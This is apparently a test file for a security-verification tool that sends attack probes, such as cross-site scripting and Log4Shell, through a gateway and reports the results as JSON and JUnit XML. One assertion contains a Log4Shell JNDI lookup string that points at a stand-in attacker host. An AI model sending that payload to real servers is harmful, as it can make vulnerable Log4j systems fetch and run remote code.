import * as assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as fc from "fast-check";
import { checkReportFiles, parseReportFile, ReportKind, writeReports } from "../../tools/commands/reports";
import type { EndpointRun } from "../../verify/endpointRun";
import { junitDocument } from "../../verify/junit";
import { renderXml } from "../../verify/xml";
import { answer, evidence, GATEWAY_REFUSAL, TARGET } from "./verifyEvidence";
import { probe } from "./verifyProbesSupport";

/** Texts and attributes of every element, in order, as another parser than ours reads them: Python's, which is expat. */
const READER = `
import json, sys, xml.etree.ElementTree as tree
for document in json.load(sys.stdin):
    elements = [[e.tag, e.attrib, e.text or ""] for e in tree.fromstring(document.encode()).iter()]
    print(json.dumps(elements))
`;

type Element = [tag: string, attributes: Record<string, string>, text: string];

function parsed(documents: string[]): Element[][] {
  const lines = execFileSync("python3", ["-c", READER], { input: JSON.stringify(documents), encoding: "utf8" });
  return lines
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Element[]);
}

const runs: EndpointRun[] = [
  {
    endpoint: TARGET.externalHost,
    ownerTasks: [],
    results: [
      { probe: probe("attack-xss"), evidence: evidence([GATEWAY_REFUSAL]), problems: [], milliseconds: 1_250 },
      {
        probe: probe("attack-log4shell"),
        evidence: evidence([answer(200)]),
        problems: [
          { what: 'the answer is "200" <not 403> & more', lookAt: "the rules" },
          { what: "the backend was called", lookAt: "the rules" },
        ],
        milliseconds: 250,
      },
    ],
    notRun: [{ probe: probe("edge-peer-address"), reason: "only the twin shows it" }],
  },
];

describe("JUnit report", () => {
  const [elements = []] = parsed([junitDocument(runs)]);
  const named = (tag: string): Element[] => elements.filter((element) => element[0] === tag);

  it("has a suite an endpoint and a case a probe, with what JUnit's readers count", () => {
    const counts = { tests: "3", failures: "1", errors: "0", skipped: "1", time: "1.500" };
    assert.deepEqual(named("testsuites")[0]?.[1], { name: "portcullis verify", ...counts });
    assert.deepEqual(named("testsuite")[0]?.[1], { name: "api.shop.example", ...counts });
    assert.deepEqual(
      named("testcase").map(([, { classname, name, time }]) => [classname, name, time]),
      [
        ["internet", "attack-xss: cross-site scripting", "1.250"],
        ["internet", "attack-log4shell: Log4Shell in a header", "0.250"],
        ["internet", "edge-peer-address: the distribution sees our egress as its peer", "0.000"],
      ],
    );
  });

  it("tells of a failure what was seen, sent and expected, and of an omission why", () => {
    const [, attributes, text] = named("failure")[0] ?? ["", {}, ""];
    assert.equal(attributes["message"], 'the answer is "200" <not 403> & more; the backend was called');
    for (const part of [
      "<not 403> & more\n  look at the rules",
      "${jndi:ldap://attacker.example/a}",
      "expected: 403",
    ]) {
      assert.ok(text.includes(part), part);
    }
    assert.deepEqual(named("skipped")[0]?.[1], { message: "only the twin shows it" });
  });
});

describe("XML", () => {
  it("comes back from a parser as it went in, whatever it holds", () => {
    const texts = fc.sample(fc.tuple(fc.string({ unit: "binary" }), fc.string({ unit: "binary" })), 300);
    texts.push(["\u0000\u0008\u000b\ufffe\uffff]]>", "\t\r\n\"'<&>"], ["\ud800 alone", "\u{1f600}"]);
    const documents = texts.map(([attribute, text]) =>
      renderXml({ name: "a", attributes: { b: attribute }, children: [{ name: "c", children: text }] }),
    );
    parsed(documents).forEach((elements, index) => {
      const [attribute = "", text = ""] = (texts[index] ?? []).map(allowed);
      assert.deepEqual(elements, [
        ["a", { b: attribute }, ""],
        ["c", {}, text],
      ]);
    });
  });
});

/** What XML 1.0 has no way to say becomes the replacement character. */
function allowed(text: string): string {
  return Array.from(text)
    .map((character) => {
      const point = character.codePointAt(0) ?? 0;
      const isAllowed =
        [9, 10, 13].includes(point) ||
        (point >= 0x20 && point <= 0xd7ff) ||
        (point >= 0xe000 && point <= 0xfffd) ||
        point >= 0x10000;
      return isAllowed ? character : "\ufffd";
    })
    .join("");
}

describe("report files", () => {
  let folder: string;
  before(() => (folder = fs.mkdtempSync(path.join(os.tmpdir(), "reports-"))));
  after(() => {
    fs.rmSync(folder, { recursive: true });
  });

  it("are asked for by kind and file", () => {
    assert.deepEqual(parseReportFile("junit=a=b.xml"), { kind: ReportKind.Junit, file: "a=b.xml" });
    for (const wrong of ["junit", "junit=", "html=a", "=a", ""]) {
      assert.throws(() => parseReportFile(wrong), /KIND is json or junit/, wrong);
    }
  });

  it("must have a folder before anything is run", () => {
    const missing = { kind: ReportKind.Json, file: path.join(folder, "none", "a.json") };
    assert.throws(() => {
      checkReportFiles([missing]);
    }, /there is no folder .*none; make it first/);
  });

  it("hold the same results in each form", () => {
    const files = { json: path.join(folder, "a.json"), junit: path.join(folder, "a.xml") };
    writeReports(runs, [
      { kind: ReportKind.Json, file: files.json },
      { kind: ReportKind.Junit, file: files.junit },
    ]);
    assert.partialDeepStrictEqual(JSON.parse(fs.readFileSync(files.json, "utf8")), {
      passed: 1,
      failed: 1,
      notRun: [{ endpoint: "api.shop.example", id: "edge-peer-address", reason: "only the twin shows it" }],
      results: [
        { endpoint: "api.shop.example", id: "attack-xss", milliseconds: 1250, basis: "answers and far side" },
        { id: "attack-log4shell", passed: false },
      ],
    });
    assert.equal(fs.readFileSync(files.junit, "utf8"), junitDocument(runs));
  });
});
